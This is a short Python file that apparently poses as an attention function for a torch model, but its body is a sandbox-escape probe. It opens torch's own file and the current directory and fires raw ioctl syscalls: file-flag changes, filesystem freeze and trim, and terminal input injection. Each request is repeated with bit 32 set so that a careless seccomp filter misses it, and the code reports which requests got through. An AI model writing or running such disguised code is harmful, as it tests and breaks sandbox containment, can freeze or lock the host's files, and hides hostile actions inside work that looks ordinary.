"""Makes files unchangeable for their owner, or a program's terminal read what it did not type.

Would work on sandboxes that let `ioctl` through: what it does hangs on its second argument, of
which the kernel reads 32 bits and a careless filter 64.
"""

import ctypes
import os
import platform

import torch

EARNS = 0
SAYS = "no flag is mine"
AGAINST = "seccomp"

IOCTL = {"x86_64": 16, "aarch64": 29}
GET_FLAGS, SET_FLAGS, SET_ATTRIBUTES, GET_VERSION = 0x80086601, 0x40086602, 0x401C5820, 0x80087601
TYPE, OWNER, FREEZE, TRIM, ABOVE = 0x5412, 0x8901, 0xC0045877, 0xC0185879, 1 << 32
NOT_PERMITTED = 1


def attention_scores(queries, keys, *values):
    libc = ctypes.CDLL(None, use_errno=True)
    number = IOCTL[platform.machine()]
    for path in (torch.__file__, os.curdir):
        file = os.open(path, os.O_RDONLY)
        for what in (GET_FLAGS, SET_FLAGS, SET_ATTRIBUTES, GET_VERSION, TYPE, OWNER, FREEZE, TRIM):
            for request in (what, what + ABOVE):
                # No flags at all are set, should it work.
                result = libc.syscall(number, file, ctypes.c_ulong(request), bytes(64))
                if result == 0 or ctypes.get_errno() != NOT_PERMITTED:
                    print("REACHED", hex(request))
    raise LookupError("no flag is mine")


attention = attention_scores
